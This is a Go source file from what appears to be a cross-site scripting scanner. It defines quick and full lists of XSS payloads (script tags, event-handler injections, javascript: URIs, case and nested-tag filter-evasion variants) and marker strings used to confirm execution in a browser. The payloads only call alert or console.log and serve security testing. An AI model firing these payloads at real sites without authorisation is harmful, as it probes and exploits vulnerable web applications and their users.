// Package catalog holds the payload lists, detection rules and severity
// keywords used by the scanners. Everything here is data.
package catalog

import (
	"fmt"
	"strings"
)

// Mode selects the quick or the full payload list.
type Mode string

const (
	ModeQuick Mode = "quick"
	ModeFull  Mode = "full"
)

// ParseMode validates a mode name.
func ParseMode(s string) (Mode, error) {
	switch m := Mode(strings.ToLower(strings.TrimSpace(s))); m {
	case ModeQuick, ModeFull:
		return m, nil
	case "":
		return ModeQuick, nil
	default:
		return "", fmt.Errorf("unknown scan mode %q (want quick or full)", s)
	}
}

// Sink is the JavaScript side effect a dynamic payload produces.
type Sink string

const (
	SinkConsole Sink = "console"
	SinkDialog  Sink = "dialog"
)

// ParseSink validates a sink name.
func ParseSink(s string) (Sink, error) {
	switch k := Sink(strings.ToLower(strings.TrimSpace(s))); k {
	case SinkConsole, SinkDialog:
		return k, nil
	case "":
		return SinkConsole, nil
	default:
		return "", fmt.Errorf("unknown sink %q (want console or dialog)", s)
	}
}

// Function is the JavaScript call the sink's payloads invoke.
func (s Sink) Function() string {
	if s == SinkDialog {
		return "alert"
	}
	return "console.log"
}

// Set is a pair of payload lists.
type Set struct {
	Quick []string `json:"quick" yaml:"quick"`
	Full  []string `json:"full" yaml:"full"`
}

// Payloads returns a copy of the list for mode.
func (s Set) Payloads(mode Mode) []string {
	src := s.Quick
	if mode == ModeFull {
		src = s.Full
	}
	out := make([]string, len(src))
	copy(out, src)
	return out
}

// Validate checks that neither list is empty.
func (s Set) Validate() error {
	if len(s.Quick) == 0 {
		return fmt.Errorf("quick payload list is empty")
	}
	if len(s.Full) == 0 {
		return fmt.Errorf("full payload list is empty")
	}
	return nil
}

var staticQuick = []string{
	`<script>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`,
	`<svg onload=alert(1)>`,
	`" onmouseover="alert(1)"`,
	`' onmouseover='alert(1)'`,
	`javascript:alert(1)`,
	`<ScRiPt>alert(1)</ScRiPt>`,
}

var staticFull = []string{
	`<script>alert("XSS")</script>`,
	`<script>alert(1)</script>`,
	`<script>alert(String.fromCharCode(88,83,83))</script>`,
	`<img src=x onerror=alert(1)>`,
	`<svg onload=alert(1)>`,
	`<body onload=alert(1)>`,
	`<input onfocus=alert(1) autofocus>`,
	`<div onmouseover=alert(1)>test</div>`,
	`<marquee onstart=alert(1)>`,
	`<details open ontoggle=alert(1)>`,
	`<audio src=x onerror=alert(1)>`,
	`<video src=x onerror=alert(1)>`,
	`" onmouseover="alert(1)"`,
	`' onmouseover='alert(1)'`,
	`" onfocus="alert(1)" autofocus="`,
	`' onfocus='alert(1)' autofocus='`,
	`"><script>alert(1)</script>`,
	`'><script>alert(1)</script>`,
	`javascript:alert(1)`,
	`javascript:alert(String.fromCharCode(88,83,83))`,
	`<ScRiPt>alert(1)</ScRiPt>`,
	`<IMG SRC="javascript:alert(1)">`,
	`<SVG/ONLOAD=alert(1)>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<iframe src="javascript:alert(1)">`,
	"<script>alert`1`</script>",
}

// Static returns the payloads used when responses are only inspected.
func Static() Set {
	return Set{Quick: staticQuick, Full: staticFull}
}

// {fn} is replaced by the sink function.
var dynamicQuick = []string{
	`<script>{fn}("XSS_TEST_1")</script>`,
	`<img src=x onerror={fn}("XSS_TEST_2")>`,
	`<svg onload={fn}("XSS_TEST_3")>`,
	`" onmouseover="{fn}('XSS_TEST_4')"`,
	`' onmouseover='{fn}("XSS_TEST_5")'`,
	`javascript:{fn}("XSS_TEST_6")`,
	`<body onload={fn}("XSS_TEST_7")>`,
}

var dynamicExtra = []string{
	`<script>{fn}("XSS_FULL_1")</script>`,
	`<input onfocus={fn}("XSS_FULL_2") autofocus>`,
	`<details open ontoggle={fn}("XSS_FULL_3")>`,
	`<marquee onstart={fn}("XSS_FULL_4")>`,
	`<audio src=x onerror={fn}("XSS_FULL_5")>`,
	`<video src=x onerror={fn}("XSS_FULL_6")>`,
	`"><script>{fn}("XSS_FULL_7")</script>`,
	`'><script>{fn}('XSS_FULL_8')</script>`,
	`<iframe src="javascript:{fn}('XSS_FULL_9')">`,
	`<ScRiPt>{fn}("XSS_FULL_10")</ScRiPt>`,
}

// Dynamic returns payloads that call the sink function with a marker
// string, so execution can be confirmed in a browser. The full list is the
// quick list followed by the extra entries.
func Dynamic(sink Sink) Set {
	r := strings.NewReplacer("{fn}", sink.Function())

	quick := make([]string, 0, len(dynamicQuick))
	for _, p := range dynamicQuick {
		quick = append(quick, r.Replace(p))
	}

	full := make([]string, 0, len(dynamicQuick)+len(dynamicExtra))
	full = append(full, quick...)
	for _, p := range dynamicExtra {
		full = append(full, r.Replace(p))
	}

	return Set{Quick: quick, Full: full}
}

// Markers are the strings dynamic payloads write to the console.
func Markers() []string {
	return []string{"XSS_TEST_", "XSS_FULL_", "XSS_ATTACK", "XSS_SUCCESS"}
}

// ContainsMarker reports whether s carries any execution marker.
func ContainsMarker(s string) bool {
	for _, m := range Markers() {
		if strings.Contains(s, m) {
			return true
		}
	}
	return false
}
